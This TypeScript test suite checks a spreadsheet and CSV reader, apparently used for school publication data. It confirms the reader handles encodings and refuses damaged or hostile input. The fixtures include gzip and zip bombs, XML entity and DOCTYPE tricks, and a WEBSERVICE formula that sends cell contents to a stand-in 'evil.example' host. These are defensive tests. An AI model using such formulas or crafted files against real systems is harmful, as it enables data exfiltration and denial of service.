import { gzipSync } from 'node:zlib';
import { inspectFile } from '../../src/exchange/data/csv-file.js';
import { openTables } from '../../src/exchange/data/tables/table-file.js';
import { aFolder } from '../builders/csv-files.js';
import { type MadeCell, odsCell, odsRow, sheetXml, spreadsheetOf, workbookOf, zipOf } from '../builders/workbooks.js';

const files = aFolder();
afterAll(() => files.remove());

async function sheetsOf(content: string | Buffer): Promise<Record<string, [number, ...string[]][]>> {
  const tables = await openTables(await inspectFile(files.fileOf('publication', content)));
  try {
    const sheets: Record<string, [number, ...string[]][]> = {};
    for (const sheet of tables.sheets) {
      sheets[sheet.name] = [];
      for await (const rows of sheet.rows())
        sheets[sheet.name].push(...rows.map(({ line, cells }): [number, ...string[]] => [line, ...cells]));
    }
    return sheets;
  } finally {
    tables.close();
  }
}

describe('reading a text', () => {
  it('knows the encoding by the bytes: UTF-8 where all of them are, otherwise that of Windows', async () => {
    expect(await sheetsOf('name\nLlŷr’s\n')).toEqual({
      rows: [
        [1, 'name'],
        [2, 'Llŷr’s'],
      ],
    });
    const windows = Buffer.from([...Buffer.from('name\r\nSt Mary'), 0x92, ...Buffer.from('s \xe0\r\n', 'latin1')]);
    expect(await sheetsOf(windows)).toEqual({
      rows: [
        [1, 'name'],
        [2, 'St Mary’s à'],
      ],
    });
  });

  it('unpacks what is compressed, and refuses what is damaged or a trap', async () => {
    expect(await sheetsOf(gzipSync('a,b\n1,2\n'))).toEqual({
      rows: [
        [1, 'a', 'b'],
        [2, '1', '2'],
      ],
    });
    const packed = gzipSync(`a,b\n${'1,2\n'.repeat(5_000)}`);
    await expect(sheetsOf(packed.subarray(0, packed.length - 30))).rejects.toThrow('is damaged');
    await expect(sheetsOf(gzipSync(`a\n${'x,'.repeat(30_000_000)}`))).rejects.toThrow(
      /far more than a publication holds|does not end within/,
    );
    await expect(sheetsOf(gzipSync(Buffer.alloc(5_000)))).rejects.toThrow('not text');
  });

  it('refuses a row of more cells than any publication has', async () => {
    await expect(sheetsOf(`a\n1\n${','.repeat(20_000)}\n`)).rejects.toThrow(
      'line 3: the row has more than 16,384 cells',
    );
  });
});

describe('reading a workbook', () => {
  it('gives text, numbers as they are written, and days as days', async () => {
    const rows: MadeCell[][] = [
      ['Title & note'],
      [],
      ['URN', 'Opened', 'Grade'],
      ['012345', { serial: 43_830 }, 2],
      [145210, { serial: 45_000.75 }, ''],
    ];
    expect(await sheetsOf(workbookOf({ Data: rows }))).toEqual({
      Data: [
        [1, 'Title & note'],
        [3, 'URN', 'Opened', 'Grade'],
        [4, '012345', '2019-12-31', '2'],
        [5, '145210', '2023-03-15'],
      ],
    });
  });

  it('works out no formula: of a link the address counts, of others what was kept', async () => {
    const link = { formula: 'HYPERLINK("https://files.ofsted.gov.uk/1", "report")', kept: '0' };
    const sum = { formula: 'WEBSERVICE("https://evil.example/"&A1)', kept: '7' };
    expect(await sheetsOf(workbookOf({ Data: [[link, sum]] }))).toEqual({
      Data: [[1, 'https://files.ofsted.gov.uk/1', '7']],
    });
  });

  it('reads shared words, runs of them together and without how they are read aloud', async () => {
    const shared =
      '<sst><si><t>one</t></si><si><r><t>two </t></r><r><t>three</t></r><rPh sb="0" eb="1"><t>zwei</t></rPh></si></sst>';
    const sheet =
      '<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>1</v></c><c r="C1" t="s"><v>0</v></c></row></sheetData></worksheet>';
    const parts = { 'xl/sharedStrings.xml': shared, 'xl/worksheets/sheet1.xml': sheet };
    expect(await sheetsOf(workbookOf({ Data: [] }, parts))).toEqual({ Data: [[1, 'two three', '', 'one']] });
  });

  const sheet = (inside: string): Buffer => workbookOf({ Data: [] }, { 'xl/worksheets/sheet1.xml': inside });
  it.each([
    ['a type of document', '<!DOCTYPE x [<!ENTITY a "b">]><worksheet/>', 'declares a type of document'],
    ['an entity that nobody declared', '<worksheet><v>&evil;</v></worksheet>', 'not well-formed'],
    ['deep nesting', `<worksheet>${'<a>'.repeat(500)}`, 'more than 64 deep'],
    ['a million columns', '<worksheet><row r="1"><c r="XFE1"><v>1</v></c></row></worksheet>', 'more than 16,384 cells'],
    ['a row beyond the last', '<worksheet><row r="1048577"/></worksheet>', 'which no sheet has'],
    ['a word that is not there', '<worksheet><row r="1"><c r="A1" t="s"><v>9</v></c></row></worksheet>', 'row 1'],
    [
      'a cell without end',
      `<worksheet><row r="1"><c r="A1"><v>${'x'.repeat(50_000)}</v></c></row></worksheet>`,
      'row 1',
    ],
    ['what breaks off', sheetXml([['a']]).slice(0, -30), 'not well-formed'],
  ])('refuses %s in one sentence', async (_what, xml, words) => {
    await expect(sheetsOf(sheet(xml))).rejects.toThrow(words);
  });

  it('refuses a part that unpacks to far more than it should, before it is unpacked', async () => {
    const bomb = workbookOf({ Data: [] }, { 'xl/worksheets/sheet1.xml': ' '.repeat(40_000_000) });
    await expect(sheetsOf(bomb)).rejects.toThrow('unpacks to far more');
  });

  it('refuses a zip that is nothing to read, and one that is damaged', async () => {
    await expect(sheetsOf(zipOf({ 'letter.txt': 'hello' }))).rejects.toThrow('neither a spreadsheet');
    const whole = workbookOf({ Data: [['a']] });
    await expect(sheetsOf(whole.subarray(0, whole.length - 40))).rejects.toThrow('damaged');
  });
});

describe('reading an OpenDocument spreadsheet', () => {
  it('steps over empty cells and rows that stand for many, and lays out the others', async () => {
    const rows = [
      odsRow([odsCell('Location ID'), odsCell('', 'table:number-columns-repeated="2"'), odsCell('Note')]),
      odsRow([odsCell('', 'table:number-columns-repeated="16384"')], 'table:number-rows-repeated="3"'),
      odsRow([odsCell('1-1', 'table:number-columns-repeated="2"')], 'table:number-rows-repeated="2"'),
      odsRow([odsCell('', 'table:number-columns-repeated="16384"')], 'table:number-rows-repeated="1048000"'),
    ];
    expect(await sheetsOf(spreadsheetOf({ README: odsRow([odsCell('About')]), Data: rows.join('') }))).toEqual({
      README: [[1, 'About']],
      Data: [
        [1, 'Location ID', '', '', 'Note'],
        [5, '1-1', '1-1'],
        [6, '1-1', '1-1'],
      ],
    });
  });

  it('reads days, numbers, spaces, lines of a cell and no comment', async () => {
    const cells = [
      '<table:table-cell office:value-type="date" office:date-value="2025-02-13T00:00:00"><text:p>13/02/25</text:p></table:table-cell>',
      '<table:table-cell office:value-type="float" office:value="12.5"><text:p>12.50</text:p></table:table-cell>',
      '<table:table-cell office:value-type="string"><office:annotation><text:p>a comment</text:p></office:annotation><text:p>one<text:s text:c="2"/>two</text:p><text:p>three</text:p></table:table-cell>',
    ];
    expect(await sheetsOf(spreadsheetOf({ Data: odsRow(cells) }))).toEqual({
      Data: [[1, '2025-02-13T00:00:00', '12.5', 'one  two\nthree']],
    });
  });

  it.each([
    ['cells', odsRow([odsCell('x', 'table:number-columns-repeated="1000000"')]), 'row 1'],
    ['rows', odsRow([odsCell('x')], 'table:number-rows-repeated="1000000"'), 'equal rows'],
  ])('refuses %s that stand for a million', async (_what, rows, words) => {
    await expect(sheetsOf(spreadsheetOf({ Data: rows }))).rejects.toThrow(words);
  });
});
